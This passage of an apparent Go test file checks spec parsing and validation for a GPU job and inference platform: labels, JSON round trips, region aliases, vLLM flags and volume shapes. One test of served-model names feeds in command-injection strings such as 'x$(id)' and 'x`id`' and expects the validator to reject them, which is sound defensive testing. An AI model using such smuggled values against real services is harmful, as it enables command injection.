	if diff := cmp.Diff([]string{"a", "b", "c"}, got); diff != "" {
		t.Errorf("FieldErrors (-want +got):\n%s", diff)
	}
	if FieldErrors(nil) != nil || FieldErrors(errors.New("x")) != nil {
		t.Error("FieldErrors of a plain error is not nil")
	}
}

type wrapped struct{ err error }

func (w wrapped) Error() string { return "wrapped: " + w.err.Error() }
func (w wrapped) Unwrap() error { return w.err }
func wrapf(err error) error     { return wrapped{err} }

func TestLabelHelpers(t *testing.T) {
	for k, want := range map[string]bool{
		"a": true, "a.b-c_d": true, "example.com/x": true, "a/b": true, "/x": false, "x/": false,
		"A/b": false, strings.Repeat("a", 254) + "/b": false, "a/b/c": false, "-a": false, "": false,
	} {
		if got := ValidLabelKey(k); got != want {
			t.Errorf("ValidLabelKey(%q) = %v, want %v", k, got, want)
		}
	}
	if err := ValidateLabel("name", "cosmicac/x", "v"); err == nil {
		t.Error("ValidateLabel accepted the reserved prefix")
	}
	if err := ValidateLabel("name", "env", "prod"); err != nil {
		t.Errorf("ValidateLabel(env=prod) = %v", err)
	}
}

func TestSpecJSON(t *testing.T) {
	for name, s := range map[string]Spec{"container": containerSpec(), "inference": inferenceSpec()} {
		t.Run(name, func(t *testing.T) {
			b, err := json.Marshal(s)
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(string(b), "region") {
				t.Errorf("marshalled spec says region: %s", b)
			}
			var got Spec
			if err := json.Unmarshal(b, &got); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(s, got); diff != "" {
				t.Errorf("round trip (-want +got):\n%s", diff)
			}
			strict, err := ParseSpec(b)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(s, strict); diff != "" {
				t.Errorf("ParseSpec (-want +got):\n%s", diff)
			}
		})
	}
}

func TestSpecWireNames(t *testing.T) {
	in := `{"type":"managed-inference","name":"n","labels":{"a":"b"},"region":"us","image":"i","diskGB":5,
	"command":["c"],"envVars":[{"name":"A","value":"1"}],
	"resources":{"gpu":2,"gpuModel":"M","gpuBrand":"nvidia","gpuMemory":80,"cpu":3,"memory":4,"ephemeralStorage":5,
	"flavor":"f","flavorCount":1,"privateNetwork":6,"publicNetwork":7},
	"sshPublicKeys":["k"],"defaultHttpPort":80,"grpcPort":81,"unsecureHttp":true,"timeout":9,"timeoutAutoRestart":true,
	"volumes":[{"name":"v","mountPath":"/v","permission":"rw","cache":true,"volumeSource":{"publicGit":{"url":"https://g"}}}],
	"readUser":"r","partnerId":"p",
	"inference":{"runtime":"vllm","model":"m","servedModelName":"s","replicas":2,"gpusPerReplica":2,"requireAuth":false,"args":{"dtype":"auto"}}}`
	got, err := ParseSpec([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	want := Spec{
		Type: TypeManagedInference, Name: "n", Labels: map[string]string{"a": "b"}, Location: "us", Image: "i", DiskGB: 5,
		Command: []string{"c"}, EnvVars: []EnvVar{{"A", "1"}},
		Resources: Resources{GPU: 2, GPUModel: "M", GPUBrand: "nvidia", GPUMemory: 80, CPU: 3, Memory: 4, EphemeralStorage: 5,
			Flavor: "f", FlavorCount: 1, PrivateNetwork: 6, PublicNetwork: 7},
		SSHPublicKeys: []string{"k"}, DefaultHTTPPort: 80, GRPCPort: 81, UnsecureHTTP: true, Timeout: 9, TimeoutAutoRestart: true,
		Volumes:  []Volume{{Name: "v", MountPath: "/v", Permission: "rw", Cache: true, Source: VolumeSource{PublicGit: &PublicGitSource{URL: "https://g"}}}},
		ReadUser: "r", PartnerID: "p",
		Inference: &InferenceSpec{Runtime: RuntimeVLLM, Model: "m", ServedModelName: "s", Replicas: 2, GPUsPerReplica: 2,
			RequireAuth: boolp(false), Args: map[string]string{"dtype": "auto"}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ParseSpec (-want +got):\n%s", diff)
	}
	// Marshalling writes location, not region, and decodes back the same.
	b, _ := json.Marshal(got)
	if !strings.Contains(string(b), `"location":"us"`) || strings.Contains(string(b), "region") {
		t.Errorf("marshalled: %s", b)
	}
}

func TestSpecRegionAlias(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		want    string
		wantErr bool
	}{
		{"location", `{"location":"us"}`, "us", false},
		{"region", `{"region":"eu"}`, "eu", false},
		{"both agree", `{"region":"eu","location":"eu"}`, "eu", false},
		{"both disagree", `{"region":"eu","location":"us"}`, "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var s Spec
			err := json.Unmarshal([]byte(tt.in), &s)
			if (err != nil) != tt.wantErr {
				t.Fatalf("Unmarshal error = %v, want error %v", err, tt.wantErr)
			}
			if err != nil {
				if fe := FieldErrors(err); len(fe) != 1 || fe[0].Field != "region" {
					t.Errorf("error %v is not a region FieldError", err)
				}
				return
			}
			if s.Location != tt.want {
				t.Errorf("Location = %q, want %q", s.Location, tt.want)
			}
		})
	}
}

func TestUnmarshalMergesAsEncodingJSON(t *testing.T) {
	s := Spec{Name: "keep", Location: "us"}
	if err := json.Unmarshal([]byte(`{"image":"i"}`), &s); err != nil {
		t.Fatal(err)
	}
	if s.Name != "keep" || s.Location != "us" || s.Image != "i" {
		t.Errorf("got %+v", s)
	}
	var j Job
	if err := json.Unmarshal([]byte(`{"spec":{"region":"eu","extra":1}}`), &j); err != nil || j.Spec.Location != "eu" {
		t.Errorf("Job spec: %v, %+v", err, j.Spec)
	}
}

func TestParseSpecStrict(t *testing.T) {
	for name, in := range map[string]string{
		"unknown field":    `{"type":"gpu-container","gpus":2}`,
		"unknown nested":   `{"resources":{"gpus":2}}`,
		"trailing data":    `{"type":"gpu-container"} {}`,
		"not json":         `{`,
		"wrong type":       `{"resources":{"gpu":"2"}}`,
		"negative as text": `{"resources":{"gpu":-1.5}}`,
	} {
		t.Run(name, func(t *testing.T) {
			_, err := ParseSpec([]byte(in))
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("ParseSpec(%s) = %v, want ErrInvalid", in, err)
			}
		})
	}
}

func TestParseJobID(t *testing.T) {
	id := NewJobID()
	if got, err := ParseJobID(id); err != nil || got != id {
		t.Errorf("ParseJobID(%q) = %q, %v", id, got, err)
	}
	if got, _ := ParseJobID(strings.ToUpper(id)); got != id {
		t.Errorf("ParseJobID(upper) = %q", got)
	}
	for _, bad := range []string{"", "x", "{" + id + "}", "urn:uuid:" + id, strings.ReplaceAll(id, "-", "")} {
		if _, err := ParseJobID(bad); !errors.Is(err, ErrInvalid) {
			t.Errorf("ParseJobID(%q) = %v, want ErrInvalid", bad, err)
		}
	}
}

func TestRackValidate(t *testing.T) {
	ok := Rack{ID: "rack-1", Type: RackTypeServer, Location: "us", GPUModel: "GH100_H100_SXM5_80GB", WorkerKey: strings.Repeat("ab", 32)}
	if err := ok.Validate(); err != nil {
		t.Errorf("Validate() = %v", err)
	}
	var got []string
	for _, fe := range FieldErrors(Rack{ID: "a b", Type: "x", WorkerKey: strings.Repeat("AB", 32)}.Validate()) {
		got = append(got, fe.Field)
	}
	if diff := cmp.Diff([]string{"id", "type", "location", "gpuModel", "workerKey"}, got); diff != "" {
		t.Errorf("fields (-want +got):\n%s", diff)
	}
}

func TestReservation(t *testing.T) {
	r := Reservation{JobID: "j", Rack: "r", Nodes: []NodeAlloc{{Node: "n1", GPUs: []int{0, 1}}, {Node: "n2", GPUs: []int{6, 7}}}}
	if r.Count() != 4 {
		t.Errorf("Count() = %d", r.Count())
	}
	want := []GPURef{{"r", "n1", 0}, {"r", "n1", 1}, {"r", "n2", 6}, {"r", "n2", 7}}
	if diff := cmp.Diff(want, r.GPUs()); diff != "" {
		t.Errorf("GPUs() (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"n1", "n2"}, r.NodeNames()); diff != "" {
		t.Errorf("NodeNames() (-want +got):\n%s", diff)
	}
	if want[3].String() != "r/n2/7" {
		t.Errorf("String() = %s", want[3])
	}
}

func TestRoles(t *testing.T) {
	for r, want := range map[Role]bool{RoleOwner: true, RoleAdmin: true, RoleMember: true, RoleViewer: true, "root": false, "": false} {
		if r.Valid() != want {
			t.Errorf("%q: Valid %v", r, r.Valid())
		}
	}
}

func TestValidAccountName(t *testing.T) {
	for s, want := range map[string]bool{"ml": true, "a": true, "team-1.b_c": true, "": false, "-a": false, "A": false,
		"a b": false, "é": false, strings.Repeat("a", MaxAccountName): true, strings.Repeat("a", MaxAccountName+1): false} {
		if ValidAccountName(s) != want {
			t.Errorf("ValidAccountName(%q) = %v", s, !want)
		}
	}
}

func TestNewReason(t *testing.T) {
	r := NewReason(ReasonExceedsNodeGPUs, "9 GPUs asked, nodes of us hold 8")
	if r.Code != ReasonExceedsNodeGPUs || !strings.HasSuffix(r.Message, ": 9 GPUs asked, nodes of us hold 8") || r.Fix == "" {
		t.Errorf("NewReason = %+v", r)
	}
	if r := NewReason("made_up", ""); r.Message != "made_up" || r.Fix != "" {
		t.Errorf("unknown code: %+v", r)
	}
	for _, c := range []ReasonCode{ReasonExceedsNodeGPUs, ReasonNoSuchLocation, ReasonNoSuchGPUModel, ReasonNoCapacity, ReasonTeamQuota,
		ReasonImportFailed, ReasonVMICrashed, ReasonVMIUnschedulable, ReasonWorkerUnreachable, ReasonNodeLost,
		ReasonKilled, ReasonTimeout, ReasonCommandFailed, ReasonInvalidSpec, ReasonReplicaFailed, ReasonNotInCatalogue, ReasonRackRefused} {
		if !KnownReason(c) || NewReason(c, "").Message == "" || NewReason(c, "").Fix == "" {
			t.Errorf("reason %s is not registered with a message and a fix", c)
		}
	}
}

// TestVLLMArgProblemNamesTheFlag: a flag the targeted vLLM does not know is
// refused with a message naming it, and a removed one says where it went.
func TestVLLMArgProblemNamesTheFlag(t *testing.T) {
	for k, want := range map[string]string{
		"swap-space":                       "--swap-space is not a flag of the vLLM version CosmicAC runs (removed in vLLM PR #36216",
		"disable-frontend-multiprocessing": "--disable-frontend-multiprocessing is not a flag of the vLLM version CosmicAC runs (removed in vLLM PR #37612",
		"no-such-flag":                     "--no-such-flag is not an allowed vLLM argument",
	} {
		s := inferenceSpec()
		s.Inference.Args = map[string]string{k: "1"}
		fes := FieldErrors(s.Validate())
		if len(fes) != 1 || fes[0].Field != "inference.args."+k || !strings.Contains(fes[0].Message, want) {
			t.Errorf("%s: field errors %+v, want one on inference.args.%s containing %q", k, fes, k, want)
		}
	}
}

func TestInferenceTask(t *testing.T) {
	for name, c := range map[string]struct {
		in   InferenceSpec
		want Task
	}{
		"vllm":             {InferenceSpec{Runtime: RuntimeVLLM}, TaskGenerate},
		"vllm runner auto": {InferenceSpec{Runtime: RuntimeVLLM, Args: map[string]string{"runner": "auto"}}, TaskGenerate},
		"vllm pooling":     {InferenceSpec{Runtime: RuntimeVLLM, Args: map[string]string{"runner": "pooling"}}, TaskEmbed},
		"vllm convert":     {InferenceSpec{Runtime: RuntimeVLLM, Args: map[string]string{"convert": "embed"}}, TaskEmbed},
		"llama.cpp":        {InferenceSpec{Runtime: RuntimeLlamaCPP}, TaskGenerate},
		"llama.cpp embed":  {InferenceSpec{Runtime: RuntimeLlamaCPP, Args: map[string]string{"embeddings": "true"}}, TaskEmbed},
		"llama.cpp runner": {InferenceSpec{Runtime: RuntimeLlamaCPP, Args: map[string]string{"runner": "pooling"}}, TaskGenerate},
		"parakeet":         {InferenceSpec{Runtime: RuntimeParakeet}, TaskTranscription},
	} {
		if got := c.in.Task(); got != c.want {
			t.Errorf("%s: Task() = %q, want %q", name, got, c.want)
		}
	}
}

func TestValidServedModelName(t *testing.T) {
	for name, want := range map[string]bool{
		"Qwen/Qwen3-8B": true, "meta-llama/Llama-3.1-8B-Instruct": true, "gpt-4o": true, "llama3:8b": true,
		"nvidia/parakeet-tdt-0.6b-v2": true, "a": true, strings.Repeat("a", MaxServedModelName): true,
		"": false, "@ml/qwen": false, "-x": false, "/x": false, "my model": false, "x'y": false, `x"y`: false,
		"x$(id)": false, "x`id`": false, "x;y": false, "x\\y": false, "x\ny": false, "é": false, "x<y": false,
		strings.Repeat("a", MaxServedModelName+1): false,
	} {
		if got := ValidServedModelName(name); got != want {
			t.Errorf("ValidServedModelName(%q) = %v, want %v", name, got, want)
		}
	}
}

// TestVolumesInOVHShapes: a volume's source is taken in OVHcloud AI
// Training's shapes too (dataStore, publicGit, standalone and
// targetDataStore beside mountPath; the older container, region and
// prefix; its output id), and given back as volumeSource and volumeTarget;
// shorthands that disagree with what they stand for, a container without
// its region, and a public Swift source are refused, each named.
func TestVolumesInOVHShapes(t *testing.T) {
	s, err := ParseSpec([]byte(`{"type":"gpu-container","location":"us","image":"ubuntu:24.04","volumes":[
		{"id":"vol-1","mountPath":"/data","permission":"ro","cache":true,"dataStore":{"alias":"main","container":"bkt","prefix":"in/"}},
		{"mountPath":"/legacy","permission":"rw","container":"bkt","region":"main","prefix":"old"},
		{"mountPath":"/src","publicGit":{"url":"https://example.net/r.git"}},
		{"mountPath":"/scratch","standalone":{"name":"scratch"}},
		{"mountPath":"/out","permission":"RW","volumeSource":{"dataStore":{"alias":"main","container":"bkt"}},"targetDataStore":{"alias":"archive","container":"results"}},
		{"mountPath":"/same","dataStore":{"alias":"main","container":"bkt"},"volumeSource":{"dataStore":{"alias":"main","container":"bkt"}}}]}`))
	if err != nil {
		t.Fatal(err)
	}
	s.Default()
	if err := s.Validate(); err != nil {
		t.Fatalf("Validate: %v", err)
	}
	ds := func(alias, container, prefix string) *DataStoreSource {
		return &DataStoreSource{Alias: alias, Container: container, Prefix: prefix}
	}
	want := []Volume{
		{MountPath: "/data", Permission: "RO", Cache: true, Source: VolumeSource{DataStore: ds("main", "bkt", "in/")}},
		{MountPath: "/legacy", Permission: "RW", Source: VolumeSource{DataStore: ds("main", "bkt", "old")}},
		{MountPath: "/src", Permission: "RO", Source: VolumeSource{PublicGit: &PublicGitSource{URL: "https://example.net/r.git"}}},
		{MountPath: "/scratch", Permission: "RW", Source: VolumeSource{Standalone: &StandaloneSource{Name: "scratch"}}},
		{MountPath: "/out", Permission: "RW", Source: VolumeSource{DataStore: ds("main", "bkt", "")}, Target: &VolumeTarget{TargetDataStore: ds("archive", "results", "")}},
		{MountPath: "/same", Permission: "RO", Source: VolumeSource{DataStore: ds("main", "bkt", "")}},
	}
	if diff := cmp.Diff(want, s.Volumes); diff != "" {
		t.Errorf("volumes (-want +got):\n%s", diff)
	}
	out, _ := json.Marshal(s.Volumes[1])
	if string(out) != `{"mountPath":"/legacy","permission":"RW","volumeSource":{"dataStore":{"alias":"main","container":"bkt","prefix":"old"}}}` {
		t.Errorf("given back as %s", out)
	}

	_, err = ParseSpec([]byte(`{"volumes":[
		{"mountPath":"/a","dataStore":{"alias":"main","container":"x"},"volumeSource":{"dataStore":{"alias":"main","container":"y"}}},
		{"mountPath":"/b","publicSwift":{"url":"https://swift"}},
		{"mountPath":"/c","container":"bkt"},
		{"mountPath":"/d","publicGit":{"url":"https://a"},"volumeSource":{"publicGit":{"url":"https://b"}}},
		{"mountPath":"/e","permission":"RW","volumeSource":{"dataStore":{"alias":"m","container":"bkt"}},"targetDataStore":{"alias":"a","container":"b"},"volumeTarget":{"targetDataStore":{"alias":"c","container":"d"}}}]}`))
	var got []string
	for _, fe := range FieldErrors(err) {
		got = append(got, fe.Field)
	}
	if diff := cmp.Diff([]string{"volumes[0].dataStore", "volumes[1].publicSwift", "volumes[2].container", "volumes[3].publicGit", "volumes[4].targetDataStore"}, got); diff != "" || !errors.Is(err, ErrInvalid) {
		t.Errorf("refusals (-want +got):\n%s\n%v", diff, err)
	}
	if _, err := ParseSpec([]byte(`{"volumes":[{"mountPath":"/a","size":3}]}`)); !errors.Is(err, ErrInvalid) {
		t.Errorf("an unknown volume field: %v", err)
	}
}
